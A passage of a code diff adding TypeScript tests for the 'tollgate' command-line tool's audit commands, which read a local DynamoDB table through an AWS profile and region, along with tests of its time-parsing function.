+  });
+
+  it('--table reads a table through the SDK default chain: --region, --profile, AWS_PROFILE', async () => {
+    const store = copyOfStore();
+    const db = await startLocalDynamo({ path: store });
+    try {
+      const config = join(tmp, 'aws-config');
+      const credentials = join(tmp, 'aws-credentials');
+      writeFileSync(config, '[profile audit]\nregion = eu-west-1\n');
+      writeFileSync(credentials, '[audit]\naws_access_key_id = AKIDAUDIT\naws_secret_access_key = secret\n');
+      const env = {
+        AWS_ENDPOINT_URL_DYNAMODB: db.endpoint,
+        AWS_CONFIG_FILE: config,
+        AWS_SHARED_CREDENTIALS_FILE: credentials,
+        AWS_EC2_METADATA_DISABLED: 'true',
+      };
+      const table = ['--table', TABLE_NAME];
+      const viaProfile = await tollgateAsync(
+        [
+          'audit',
+          'list',
+          ...table,
+          '--profile',
+          'audit',
+          '--outcome',
+          'REJECT',
+          '--type',
+          'decision',
+          '--format',
+          'json',
+        ],
+        env,
+      );
+      expect(viaProfile.stderr).toBe('');
+      expect(viaProfile.status).toBe(0);
+      expect((JSON.parse(viaProfile.stdout) as AuditRecord[]).map((r) => `${r.pipeline}#${r.seq}`)).toEqual([
+        'search-api#1',
+        'payments-api#1',
+      ]);
+      const viaEnv = await tollgateAsync(['audit', 'verify', ...table, '--region', 'us-east-1'], {
+        ...env,
+        AWS_PROFILE: 'audit',
+      });
+      expect(viaEnv.status).toBe(0);
+      expect(viaEnv.stdout).toContain('OK: 28 record(s) in 8 chain(s) verified');
+      const noTable = await tollgateAsync(['audit', 'list', '--table', 'nope', '--profile', 'audit'], env);
+      expect(noTable.status).toBe(1);
+      expect(noTable.stdout).toBe('');
+      expect(noTable.stderr).toMatch(/^tollgate: table nope \(eu-west-1\) was not found|^tollgate: .*nope/);
+      const noProfile = await tollgateAsync(
+        ['audit', 'list', ...table, '--profile', 'nobody', '--region', 'eu-west-1'],
+        env,
+      );
+      expect(noProfile.status).toBe(1);
+      expect(noProfile.stdout).toBe('');
+      expect(noProfile.stderr).toMatch(/^tollgate: /);
+    } finally {
+      await db.close();
+    }
+  }, 60_000);
+});
+
+describe('parseTime', () => {
+  const now = new Date('2026-11-25T12:00:00Z');
+  it('dates, timestamps with a zone, and times ago', () => {
+    expect(parseTime('2026-11-01', now, 'since').toISOString()).toBe('2026-11-01T00:00:00.000Z');
+    expect(parseTime('2026-11-01', now, 'until').toISOString()).toBe('2026-11-02T00:00:00.000Z');
+    expect(parseTime('2026-11-01T12:00:00Z', now, 'until').toISOString()).toBe('2026-11-01T12:00:00.000Z');
+    expect(parseTime('2026-11-01T14:00:00+02:00', now, 'since').toISOString()).toBe(
+      '2026-11-01T12:00:00.000Z',
+    );
+    expect(parseTime('30d', now, 'since').toISOString()).toBe('2026-10-26T12:00:00.000Z');
+    expect(parseTime('12h', now, 'since').toISOString()).toBe('2026-11-25T00:00:00.000Z');
+    expect(parseTime('90m', now, 'since').toISOString()).toBe('2026-11-25T10:30:00.000Z');
+    expect(parseTime('2w', now, 'since').toISOString()).toBe('2026-11-11T12:00:00.000Z');
+    for (const bad of ['yesterday', '2026-11-01T12:00:00', '2026-13-01', '30', '-3d', '3y', '']) {
+      expect(() => parseTime(bad, now, 'since'), bad).toThrow(/expected an ISO-8601 date/);
+    }
+  });
+});
